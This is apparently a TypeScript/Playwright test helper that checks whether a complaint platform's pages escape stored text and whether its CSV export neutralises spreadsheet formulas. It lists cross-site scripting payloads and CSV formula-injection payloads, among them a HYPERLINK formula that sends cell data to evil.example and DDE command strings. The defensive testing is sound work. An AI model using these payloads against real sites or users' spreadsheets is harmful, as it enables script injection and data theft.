/**
 * Hostile text in every free-text field (rating comment, complaint description, the customer's
 * name, staff involved, staff notes, the decision and corrective action), rendered in Chromium on
 * every page that shows it: the staff complaint detail, the tracking page and the dashboard's low
 * ratings. A payload that ran would set `window.__xss` or open a dialog; neither may happen. And
 * the CSV export of the same ratings neutralises formula payloads (`=`, `+`, `-`, `@`, tab, CR).
 * Shared by `test/browser/output-safety.test.ts` and the reliability suite.
 */
import type { BrowserContext } from 'playwright-core';
import type { LocalPlatform } from '../../functions/local/platform.js';
import { fileComplaint } from './complaints.js';
import { keyFor, newSubmissionId, postJson } from './customer.js';
import { staffAs } from './staff.js';

export const XSS_PAYLOADS = [
  '<img src=x onerror="window.__xss=1;alert(1)">',
  '<script>window.__xss=1;alert(2)</script>',
  '"><svg onload="window.__xss=1;alert(3)">',
  '\'><iframe srcdoc="<script>parent.__xss=1;parent.alert(4)</script>"></iframe>',
  '</textarea></title><img src=x onerror=window.__xss=1>',
  'javascript:window.__xss=1;alert(5)//',
  '<a href="javascript:window.__xss=1">x</a><details open ontoggle="window.__xss=1;alert(6)">',
  '{{constructor.constructor("window.__xss=1;alert(7)")()}}',
];

export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1\tcomment',
  '=cmd|"/C calc"!A0\r\n=2',
];

export interface RenderCheck {
  page: string;
  payload: string;
  ran: boolean;
  dialogs: number;
}

export interface OutputSafetyReport {
  renders: RenderCheck[];
  csvCells: number;
  unsafeCells: string[];
}

type Platform = { url: string; token(username: string): Promise<string> };

/** Files the hostile records, opens each page that shows them, and reads the CSV export. */
export async function checkOutputSafety(
  platform: LocalPlatform,
  newContext: (locale: string) => Promise<BrowserContext>,
  payloads = XSS_PAYLOADS,
): Promise<OutputSafetyReport> {
  const ctx: Platform = {
    url: platform.url,
    token: async (username) => {
      const r = await postJson(`${platform.url}/api/v1/local/token`, { username });
      return String(r.body.token);
    },
  };
  const k = await keyFor(platform, 'sh-jingan');
  const rate = (comment: string) =>
    postJson(`${platform.url}/api/v1/feedback`, {
      outletId: 'sh-jingan',
      k,
      submissionId: newSubmissionId(),
      rating: 1,
      comment,
    });
  const trackingNos: string[] = [];
  const ops = staffAs(ctx, 'operations.1');
  for (const payload of payloads) {
    await rate(payload);
    const { trackingNo } = await fileComplaint(platform, 'sh-jingan', {
      description: `${payload} 排队一个多小时`,
      contact: { name: payload.slice(0, 60), phone: '138 1234 5678' },
      staffInvolved: payload.slice(0, 100),
    });
    await ops.step(trackingNo, { type: 'note', text: payload });
    await ops.step(trackingNo, { type: 'accept' });
    await ops.step(trackingNo, {
      type: 'resolve',
      decision: payload,
      rootCause: 'process',
      correctiveAction: payload,
    });
    trackingNos.push(trackingNo);
  }
  for (const formula of FORMULA_PAYLOADS) await rate(formula);
  await postJson(`${platform.url}/api/v1/local/jobs/rollup-today`, {});

  const renders: RenderCheck[] = [];
  const visit = async (
    name: string,
    payload: string,
    locale: string,
    open: (page: import('playwright-core').Page) => Promise<void>,
  ) => {
    const context = await newContext(locale);
    const page = await context.newPage();
    let dialogs = 0;
    page.on('dialog', (dialog) => {
      dialogs++;
      void dialog.dismiss();
    });
    await open(page);
    await page.waitForTimeout(300);
    const ran = await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss !== undefined);
    renders.push({ page: name, payload, ran, dialogs });
    await context.close();
  };
  const signIn = async (page: import('playwright-core').Page, username: string, next: string) => {
    await page.goto(`${platform.url}/signin?next=${encodeURIComponent(next)}`);
    await page.locator(`button[data-username="${username}"]`).click();
  };

  for (const [i, trackingNo] of trackingNos.entries()) {
    const payload = payloads[i] ?? '';
    await visit('staff complaint detail', payload, 'zh-CN', async (page) => {
      await signIn(page, 'operations.1', `/staff#/complaints/${trackingNo}`);
      await page.locator('#detail h2', { hasText: trackingNo }).waitFor();
    });
    await visit('head office complaint detail', payload, 'en-US', async (page) => {
      await signIn(page, 'head-office', `/staff#/complaints/${trackingNo}`);
      await page.locator('#detail h2', { hasText: trackingNo }).waitFor();
    });
    await visit('tracking page', payload, 'en-US', async (page) => {
      await page.goto(`${platform.url}/t?no=${trackingNo}`);
      await page.getByLabel('Last four digits of your phone').fill('5678');
      await page.getByRole('button', { name: 'Check' }).click();
      await page.locator('#state').filter({ hasText: trackingNo }).waitFor();
    });
  }
  await visit('dashboard low ratings', payloads.join(' '), 'zh-CN', async (page) => {
    await signIn(page, 'head-office', '/dashboard');
    await page.waitForURL(/\/dashboard/);
    await page.locator('#low-list li').first().waitFor();
  });
  await visit('outlet inbox list', payloads.join(' '), 'zh-CN', async (page) => {
    await signIn(page, 'manager.sh-jingan', '/staff');
    await page.locator('#list tr[data-no]').first().waitFor();
  });

  const today = new Date().toLocaleDateString('sv-SE', { timeZone: 'Asia/Shanghai' });
  const response = await fetch(
    `${platform.url}/api/v1/stats/export/ratings?scope=outlet&id=sh-jingan&from=${today}&to=${today}&format=csv`,
    { headers: { authorization: `Bearer ${await ctx.token('head-office')}` } },
  );
  const cells = parseCsv(await response.text());
  const unsafeCells = cells.filter((c) => c.quoted && /^[=+\-@\t\r]/.test(c.value)).map((c) => c.value);
  const comments = cells.filter((c) => FORMULA_PAYLOADS.some((f) => c.value.includes(f.trim().slice(1, 12))));
  if (comments.length < FORMULA_PAYLOADS.length)
    unsafeCells.push(
      `only ${comments.length} of ${FORMULA_PAYLOADS.length} formula comments found in the export`,
    );
  return { renders, csvCells: cells.length, unsafeCells };
}

/** RFC 4180 cells, each with whether it was quoted (a text cell) or bare (a number, TRUE/FALSE). */
export function parseCsv(text: string): { value: string; quoted: boolean }[] {
  const cells: { value: string; quoted: boolean }[] = [];
  let i = text.startsWith('\uFEFF') ? 1 : 0;
  while (i < text.length) {
    let value = '';
    let quoted = false;
    if (text[i] === '"') {
      quoted = true;
      i++;
      while (i < text.length) {
        if (text[i] === '"' && text[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else value += text[i++];
      }
    }
    while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') value += text[i++];
    cells.push({ value, quoted });
    if (text[i] === ',') i++;
    else while (text[i] === '\r' || text[i] === '\n') i++;
  }
  return cells;
}
